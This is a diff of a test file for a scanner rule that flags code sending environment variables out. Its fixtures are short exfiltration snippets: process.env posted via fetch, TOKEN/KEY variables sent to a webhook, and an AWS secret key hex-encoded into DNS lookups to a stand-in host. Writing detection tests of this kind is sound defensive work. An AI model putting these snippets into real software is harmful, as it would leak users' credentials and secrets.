@@ -5,42 +5,53 @@ import { findings } from "../../test/support/run.js";
 import envExfiltration from "./env-exfiltration.js";
 
 describe("env-exfiltration", () => {
-  it.each<[string, string, string[], boolean?]>([
-    ["env posted", `fetch(u, { body: JSON.stringify({ e: process.env }) })`, ["critical"], true],
+  it.each<[string, Record<string, string>, string[]]>([
+    ["env posted", { "i.js": `fetch(u, { body: JSON.stringify({ e: process.env }) })` }, ["critical"]],
     [
-      "env serialised in one file, sent from another",
-      `const s = Buffer.from(JSON.stringify(process.env)).toString("base64"); module.exports = s;`,
+      "env filtered for secrets, posted to a webhook",
+      {
+        "i.js": `const c = Object.entries(process.env).filter(([k]) => /TOKEN|KEY/.test(k)).map(([k, v]) => k + "=" + v);
+          fetch(HOOK, { method: "POST", body: JSON.stringify({ content: c.join("\\n") }) });`,
+      },
+      ["critical"],
+    ],
+    [
+      "a secret variable encoded into DNS names",
+      {
+        "i.js": `require("dns").lookup(Buffer.from(process.env.AWS_SECRET_ACCESS_KEY).toString("hex") + ".x.example", () => {});`,
+      },
+      ["critical"],
+    ],
+    [
+      "serialised in one file, sent from another through an import",
+      {
+        "a.js": `export function profile() { return JSON.stringify(process.env); }`,
+        "b.js": `import { profile } from "./a.js"; fetch(u, { method: "POST", body: profile() });`,
+      },
+      ["critical"],
+    ],
+    [
+      "an API key in the Authorization header is the API's",
+      { "i.js": `fetch(u, { headers: { Authorization: "Bearer " + process.env.API_KEY } });` },
       [],
     ],
-    ["env logged, no network", `console.log(JSON.stringify(process.env))`, []],
-  ])("%s", (_n, code, severities, blocking) => {
-    const fs = findings(envExfiltration, evidenceWithCode({ "i.js": code }));
+    ["env logged, no network", { "i.js": `console.log(JSON.stringify(process.env))` }, []],
+    [
+      "a debug tool returning the environment, the network used elsewhere (server-everything get-env)",
+      {
+        "dist/tools/get-env.js": `export const registerGetEnvTool = (server) => server.registerTool("get-env", { description: "Returns all environment variables, helpful for debugging" },
+          async () => ({ content: [{ type: "text", text: JSON.stringify(process.env, null, 2) }] }));`,
+        "dist/transports/http.js": `export const post = (url, body) => fetch(url, { method: "POST", body });`,
+      },
+      [],
+    ],
+  ])("%s", (_n, files, severities) => {
+    const fs = findings(envExfiltration, evidenceWithCode(files));
     expect(fs.map((f) => f.severity)).toEqual(severities);
-    if (blocking) expect(fs[0]?.blocking).toBe(true);
-    for (const f of fs) expect(f.evidence[0]?.file).toBe("i.js");
-  });
-
-  it("env serialised in one file and sent from another is still flagged", () => {
-    const e = evidenceWithCode({
-      "a.js": `module.exports = JSON.stringify(process.env);`,
-      "b.js": `fetch(u);`,
-    });
-    expect(findings(envExfiltration, e)).toHaveLength(1);
+    for (const f of fs) expect(f.blocking).toBe(true);
   });
 
   it("is unknown when the code could not be analysed, skipped when it was not", () => {
     expect(withoutPart(envExfiltration, "code")).toEqual({ unavailable: "unknown", skipped: "skipped" });
-  });
-});
-
-describe("env-exfiltration across files", () => {
-  it("is high and not blocking when serialising and sending are in different files", () => {
-    const e = evidenceWithCode({
-      "env-tool.js": `text = JSON.stringify(process.env);`,
-      "api.js": `fetch(u);`,
-    });
-    const [f] = findings(envExfiltration, e);
-    expect(f?.severity).toBe("high");
-    expect(f?.blocking).toBe(false);
   });
 });
